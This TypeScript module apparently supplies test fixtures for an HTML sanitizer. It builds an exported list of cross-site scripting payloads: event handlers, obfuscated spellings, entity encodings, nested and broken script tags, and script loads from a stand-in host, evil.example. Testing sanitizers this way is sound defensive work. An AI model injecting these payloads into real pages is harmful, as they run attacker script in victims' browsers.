/** The script to run; the page records its calls. */
const RUN = 'hostile()';

const EVENTS = (
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforetoggle blur cancel canplay canplaythrough change click close contextmenu copy ' +
  'cuechange cut dblclick drag dragend dragenter dragover drop durationchange emptied ended error focus focusin ' +
  'formdata gotpointercapture input invalid keydown load loadeddata loadstart mousedown mouseenter mouseover ' +
  'pageshow paste play pointerdown pointerenter pointerrawupdate ratechange reset resize scroll scrollend search ' +
  'select selectstart slotchange submit suspend toggle touchstart transitionend transitionrun wheel'
).split(' ');
const ELEMENTS = 'p a img b i table td ul li h1 h6 blockquote th strong em u tr tbody ol hr'.split(
  ' ',
);

/** All event handlers, on allowed elements. */
const handlers = EVENTS.map((event, index) => {
  const element = ELEMENTS[index % ELEMENTS.length] ?? 'p';
  return `<${element} on${event}="${RUN}" tabindex="0" autofocus>x</${element}>`;
});

/** Handlers that need no interaction, and handlers in unusual spellings. */
const writings = [
  `<img src=nothing onerror=${RUN}>`,
  `<img/src="nothing"/onerror=${RUN}>`,
  `<IMG SRC=nothing ONERROR=${RUN}>`,
  `<img src=nothing onerror="${RUN}//`,
  `<img\nsrc=nothing\nonerror\n=\n"${RUN}">`,
  `<img\tsrc=nothing\tonerror\t=\t${RUN}>`,
  `<img src=nothing onerror=&#104;&#111;stile()>`,
  `<img src=nothing onerror=&#x68ostile&lpar;&rpar;>`,
  `<img src=nothing oNeRrOr="${RUN}">`,
  `<img src="nothing" alt="\`><img src=nothing onerror=${RUN}>`,
  `<img src=nothing alt="--><img src=nothing onerror=${RUN}>">`,
  `<img """><script>${RUN}</script>">`,
  `<img src=nothing onerror\u0000=${RUN}>`,
  `<img\u0000 src=nothing onerror=${RUN}>`,
  `<p/onclick=${RUN}>x`,
  `<p onclick=${RUN}//><p>x`,
  `<p "onclick=${RUN}">x</p>`,
  `<p ==onclick=${RUN}>x</p>`,
  `<<p onclick=${RUN}>x</p>`,
  `<p title='"onclick=${RUN}'>x</p>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN} onhashchange=${RUN}>`,
  `<video src=nothing onerror=${RUN}></video>`,
  `<video><source onerror=${RUN} src=nothing></video>`,
  `<audio src=nothing onerror=${RUN} autoplay></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<dialog open oncancel=${RUN} onclose=${RUN}>x</dialog>`,
  `<xss-x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</xss-x>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=nothing onerror=${RUN}>`,
  `<object data=nothing onerror=${RUN}></object>`,
  `<embed src=nothing onerror=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<button popovertarget=a onclick=${RUN}>x</button><p id=a popover onbeforetoggle=${RUN}>y</p>`,
];

/** Script elements. */
const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*<p>*/${RUN}/*</p>*/</script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="text/javascript;x=1">${RUN}</script>`,
  `<script type=importmap>{"imports":{"a":"data:text/javascript,${RUN}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
  `<script language=vbscript>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script async defer nomodule src=//evil.example/a.js></script>`,
  `<script nonce=abc integrity="" src=https://evil.example/b.js></script>`,
  `<script>0</script><!--><script>${RUN}</script>`,
  `<p>x<script>${RUN}`,
  `</p></div></main></body><script>${RUN}</script>`,
  `<?php echo "x" ?><script>${RUN}</script>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!DOCTYPE html><html><head><script>${RUN}</script></head><body>x</body></html>`,
];

/** Snippets that try to run a script. */
export const SCRIPTS: readonly string[] = [...handlers, ...writings, ...scripts];
